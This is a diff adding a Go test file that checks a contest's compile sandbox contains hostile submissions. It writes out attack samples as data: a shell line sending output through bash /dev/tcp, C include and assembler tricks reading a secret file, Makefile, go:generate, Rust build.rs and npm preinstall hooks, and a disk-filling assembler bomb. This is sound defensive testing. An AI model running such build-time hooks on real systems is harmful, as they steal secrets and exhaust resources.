@@ -1,0 +1,136 @@
+package compile
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"blockyard/agents/contest"
+	"blockyard/agents/contest/cage"
+)
+
+// secret is what no submission may learn while it is compiled.
+const secret = "Rosebud42"
+
+// TestCompileAttacks: a submission that attacks while it is compiled reaches nothing outside of its folder. Every attack
+// would print the secret, or leave a file beside the folder.
+func TestCompileAttacks(t *testing.T) {
+	outside := t.TempDir()
+	hidden := filepath.Join(outside, "id")
+	require.NoError(t, os.WriteFile(hidden, []byte(secret+"\n"), 0o600))
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	defer l.Close()
+	left := filepath.Join(outside, "left")
+	script := fmt.Sprintf("cat %s >&2; echo x > %s; bash -c 'echo x > /dev/tcp/%s' || true; exit 1\n", hidden, left,
+		strings.Replace(l.Addr().String(), ":", "/", 1))
+	makefile := "all:\n\t" + strings.ReplaceAll(script, "\n", "")
+	attacks := map[string]struct {
+		tool  string
+		works bool // where nothing is contained; the others are never run
+		files []string
+	}{
+		"include of a secret": {"cc", true, []string{"bot.c", fmt.Sprintf("#include %q\nint main(void) { return 0; }\n", hidden)}},
+		"embedded by the assembler": {"cc", true, []string{"bot.c", fmt.Sprintf(
+			"__asm__(\".incbin \\\"%s\\\"\");\nint main(void) { return 0; }\n", hidden)}},
+		"a makefile": {"make", true, []string{"Makefile", makefile, "bot.c", "int x;\n"}},
+		"bot.toml":   {"sh", true, []string{"bot.toml", "build = \"sh steal\"\nrun = \"./bot\"\n", "steal", script}},
+		"go:generate and go:embed": {"go", false, []string{"main.go", fmt.Sprintf("package main\n\nimport _ \"embed\"\n\n"+
+			"//go:generate sh -c %q\n\n//go:embed %s\nvar text string\n\nfunc main() { print(text) }\n", script, hidden)}},
+		"build.rs": {"cargo", true, []string{"Cargo.toml", "[package]\nname = \"bot\"\nversion = \"1.0.0\"\n", "src/main.rs",
+			"fn main() {}\n", "build.rs", fmt.Sprintf("fn main() { std::fs::write(%q, \"x\").ok(); "+
+				"panic!(\"{:?}\", std::fs::read_to_string(%q)); }\n", left, hidden)}},
+		"an annotation processor": {"javac", false, []string{"Bot.java", "public class Bot { public static void main(String[] a) {} }\n",
+			"META-INF/services/javax.annotation.processing.Processor", "Evil\n"}},
+		"a script of npm": {"npm", false, []string{"package.json", fmt.Sprintf(
+			"{\"main\":\"bot.js\",\"scripts\":{\"preinstall\":\"cp %s %s\"}}", hidden, left), "bot.js", "process.stdin\n"}},
+	}
+	for name, a := range attacks {
+		t.Run(name, func(t *testing.T) {
+			if missing := cage.Missing(); len(missing) > 0 {
+				t.Skipf("wall missing: %s", strings.Join(missing, "; "))
+			}
+			if _, err := exec.LookPath(a.tool); err != nil {
+				t.Skipf("%s is not here", a.tool)
+			}
+			dir := t.TempDir()
+			for k := 0; k < len(a.files); k += 2 {
+				path := filepath.Join(dir, a.files[k])
+				require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
+				require.NoError(t, os.WriteFile(path, []byte(a.files[k+1]), 0o644))
+			}
+			into := filepath.Join(t.TempDir(), "b")
+			require.Empty(t, leaks(t, dir, into, left, false))
+			entries, err := filepath.Glob(filepath.Join(into, "tmp-*"))
+			require.NoError(t, err)
+			require.Empty(t, entries, "temporary files remain")
+			if a.works {
+				require.NotEmpty(t, leaks(t, dir, filepath.Join(t.TempDir(), "b"), left, true), "in the open")
+				_ = os.Remove(left)
+			}
+		})
+	}
+}
+
+// leaks compiles a submission and returns how the secret has left, "" if it has not.
+func leaks(t *testing.T, dir, into, left string, open bool) (how string) {
+	t.Helper()
+	limits := Default
+	limits.Open = open
+	_, err := Submission(t.Context(), dir, into, contest.Uploads{}, limits)
+	said := fmt.Sprint(err)
+	if r, ok := err.(*Refusal); ok {
+		said += r.Output
+	}
+	if strings.Contains(said, secret) {
+		how += "it is said; "
+	}
+	if _, err := os.Stat(left); err == nil {
+		how += "a file is left; "
+	}
+	require.NoError(t, filepath.WalkDir(into, func(path string, d os.DirEntry, err error) error {
+		if err != nil || !d.Type().IsRegular() {
+			return err
+		}
+		text, err := os.ReadFile(path)
+		if strings.Contains(string(text), secret+"\n") {
+			how += path + " holds it; "
+		}
+		return err
+	}))
+	return how
+}
+
+// TestCompilersAreBounded: a source of a few bytes whose compilation writes gigabytes is refused, and leaves nothing.
+func TestCompilersAreBounded(t *testing.T) {
+	if !cage.Possible() {
+		t.Skip("wall missing: limits")
+	}
+	t.Setenv("TMPDIR", t.TempDir())
+	path := filepath.Join(t.TempDir(), "bot.c")
+	require.NoError(t, os.WriteFile(path, []byte("__asm__(\".fill 0x1c0000000,1,1\"); int main(void) { return 0; }\n"), 0o644))
+	into := filepath.Join(t.TempDir(), "b")
+	_, err := Submission(t.Context(), path, into, contest.Uploads{}, Default)
+	require.ErrorAs(t, err, new(*Refusal))
+	t.Log(err, err.(*Refusal).Output)
+	left, _ := os.ReadDir(os.TempDir())
+	for _, l := range left {
+		require.NotContains(t, l.Name(), ".o")
+		require.NotContains(t, l.Name(), ".s")
+	}
+	var bytes int64
+	require.NoError(t, filepath.WalkDir(into, func(_ string, d os.DirEntry, err error) error {
+		if info, _ := d.Info(); err == nil && d.Type().IsRegular() {
+			bytes += info.Size()
+		}
+		return err
+	}))
+	require.Less(t, bytes, int64(2<<30))
+	require.NoError(t, os.RemoveAll(into))
+}
